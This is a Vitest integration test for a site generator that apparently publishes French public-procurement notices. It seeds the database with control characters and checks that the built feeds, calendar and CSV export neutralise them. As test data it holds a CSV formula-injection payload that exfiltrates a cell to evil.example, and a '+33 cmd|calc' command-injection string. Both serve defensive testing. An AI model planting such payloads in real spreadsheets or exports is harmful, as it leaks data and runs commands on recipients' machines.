import { readdir, readFile, rm, mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../site/src/lib/test-support/csv.js';
import { startSeededHub, type RunningHub } from './support/hub-process.js';
import { buildSite, type BuildResult } from './support/site-build.js';
import { SaxesParser } from './support/site-deps.js';
import { runSql } from './support/sqlite.js';

// What a hub may hold though its API now refuses it (typed before the rules, imported, restored from a backup):
// control characters in titles and names, text a spreadsheet would run as a formula. Stored straight into the
// database, then the site is built from it for real, with a public address on another port than the default.

const SITE_URL = 'http://127.0.0.1:8123';
const CONTROLS = 'Voirie\u0007 \u001b[1mneuve\u000b\u000c\u0000 fin';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';

function parseStrictly(xml: string): void {
  const parser = new SaxesParser({ xmlns: false });
  let failure: Error | undefined;
  parser.on('error', (error) => (failure ??= error));
  parser.write(xml).close();
  if (failure) throw failure;
}

describe('a site built from a hub holding control characters and formulas', () => {
  let hub: RunningHub;
  let workDir: string;
  let dist: string;
  let build: BuildResult;

  beforeAll(async () => {
    hub = await startSeededHub({
      beforeServe: (file) =>
        runSql(file, [
          [`update notice set title = ? || title, description = ? where status = 'PUBLISHED'`, [`${CONTROLS} `, CONTROLS]],
          [`update organisation set name = name || ? where slug = 'draguignan'`, ['\u0007']],
          [`update lot set title = ?`, ['+33 cmd|calc']],
          [`update award set supplier_name = ?`, [FORMULA]],
        ]),
    });
    workDir = await mkdtemp(path.join(tmpdir(), 'site-test-hostile-'));
    dist = path.join(workDir, 'dist');
    build = await buildSite({ HUB_URL: hub.graphqlUrl, SITE_OUT_DIR: dist, SITE_URL });
    expect(build.code, build.output).toBe(0);
  }, 600_000);

  afterAll(async () => {
    await hub?.stop();
    if (workDir) await rm(workDir, { recursive: true, force: true });
  });

  const files = async (extension: string) =>
    (await readdir(dist, { recursive: true, withFileTypes: true }))
      .filter((entry) => entry.isFile() && entry.name.endsWith(extension))
      .map((entry) => path.join(entry.parentPath, entry.name));

  it('writes every feed and the sitemap as XML a conforming parser accepts, links on the public address', async () => {
    const xmlFiles = await files('.xml');
    expect(xmlFiles.length).toBeGreaterThan(5);
    for (const file of xmlFiles) {
      const xml = await readFile(file, 'utf8');
      expect(() => parseStrictly(xml), path.relative(dist, file)).not.toThrow();
      for (const link of xml.match(/https?:\/\/[^<"\s]+/g) ?? []) {
        if (!link.startsWith('http://www.sitemaps.org')) expect(link.startsWith(`${SITE_URL}/`), link).toBe(true);
      }
    }
    expect(await readFile(path.join(dist, 'flux/avis.xml'), 'utf8')).toContain('Voirie [1mneuve fin');
  });

  it('writes a calendar without control characters, with links on the public address', async () => {
    const text = await readFile(path.join(dist, 'avis/echeances.ics'), 'utf8');
    expect(text).toContain('Voirie');
    expect([...text].filter((c) => c.charCodeAt(0) < 0x20 && !'\t\n\r'.includes(c))).toEqual([]);
    expect(text).toContain(`URL;VALUE=URI:${SITE_URL}/avis/`);
  });

  it('neutralises in the lots CSV every cell a spreadsheet would run as a formula', async () => {
    const rows = parseCsv(await readFile(path.join(dist, 'donnees/avis-lots.csv'), 'utf8'));
    const cells = rows.flat();
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).toContain("'+33 cmd|calc");
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(rows.slice(1).every((row) => row[1]!.startsWith(`${SITE_URL}/avis/`))).toBe(true);
  });

  it('has the icon the pages link, a robots.txt pointing to the sitemap, and canonical links on the public address', async () => {
    const home = await readFile(path.join(dist, 'index.html'), 'utf8');
    expect(home).toContain('<link rel="icon" href="/favicon.svg"');
    expect(await readFile(path.join(dist, 'favicon.svg'), 'utf8')).toMatch(/^<svg /);
    expect(home).toContain(`<link rel="canonical" href="${SITE_URL}/"`);
    await expect(readFile(path.join(dist, 'robots.txt'), 'utf8')).resolves.toContain(`Sitemap: ${SITE_URL}/sitemap.xml`);
  });

  it('writes brotli and gzip copies of the pages beside them', async () => {
    const page = await readFile(path.join(dist, 'avis/index.html'));
    expect(brotliDecompressSync(await readFile(path.join(dist, 'avis/index.html.br')))).toEqual(page);
    expect(gunzipSync(await readFile(path.join(dist, 'avis/index.html.gz')))).toEqual(page);
    expect((await files('.br')).length).toBeGreaterThan(10);
  });
});
